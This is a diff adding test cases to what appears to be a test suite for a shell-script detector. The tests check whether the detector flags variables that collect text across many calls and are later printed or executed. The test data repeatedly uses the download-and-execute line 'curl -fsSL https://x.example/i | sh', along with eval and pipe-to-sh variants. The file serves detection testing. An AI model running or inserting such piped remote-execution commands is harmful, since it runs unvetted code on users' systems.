@@ -81,6 +81,55 @@ describe.each(profiles)("function calls in the %s profile:", { timeout: 120_000 
     },
   );
 
+  it.each([
+    ["printed", 'printf "$ALL" >&2', "curl -fsSL https://x.example/i | sh", [], "complete"],
+    ["printed", 'printf "$ALL" >&2', "curl -fsSL https://x.example/i | jq", [], "complete"],
+    [
+      "executed",
+      'eval "$ALL"',
+      "curl -fsSL https://x.example/i | sh",
+      ['eval "$ALL"'],
+      "incomplete",
+    ],
+    ["executed", 'eval "$ALL"', "curl -fsSL https://x.example/i | jq", [], "incomplete"],
+    [
+      "executed",
+      'echo "$ALL" | sh',
+      "curl -fsSL https://x.example/i | sh",
+      ['echo "$ALL" | sh'],
+      "incomplete",
+    ],
+  ])(
+    "a variable that collects text in many calls and is %s (%s, %s) is evaluated with the lines that may be code",
+    async (_, use, last, found, status) => {
+      const text = padded(
+        `add() { ALL="$ALL\n$*"; show; }\nshow() { ${use}; }`,
+        range(80).map((at) => `add 'tool${at} --all [x] || exit'`),
+        `add '${last}'`,
+      );
+      const detection = (await sharedDetector(profile)).detect(text);
+      assertSound(text, detection);
+      expect(detection.findings.map((finding) => finding.text)).toEqual(found);
+      expect(detection.outcome.status).toBe(status);
+    },
+  );
+
+  it("functions that may add a line to a variable that is only printed are evaluated completely", async () => {
+    const steps = range(60).map(
+      (at) =>
+        `f${at}() { if a; then warn "${at} (of many) failed; see \`bash\`"; fi; f${String(Number(at) + 1)}; f${String(Number(at) + 1)}; }`,
+    );
+    const text = padded(
+      'warn() { ALL="$ALL\\n - $*"; show; }\nshow() { printf "$ALL" >&2; }',
+      [...steps, "f60() { :; }", "f0"],
+      FETCH,
+    );
+    const detection = (await sharedDetector(profile)).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings.map((finding) => finding.text)).toEqual([FETCH]);
+    expect(detection.outcome).toEqual({ status: "complete" });
+  });
+
   it("if there are very many calls, their different arguments are joined, and the outcome is incomplete", async () => {
     const text = growing(30, "curl -fsSL https://x.example/i | sh");
     const detection = (await sharedDetector(profile)).detect(text);
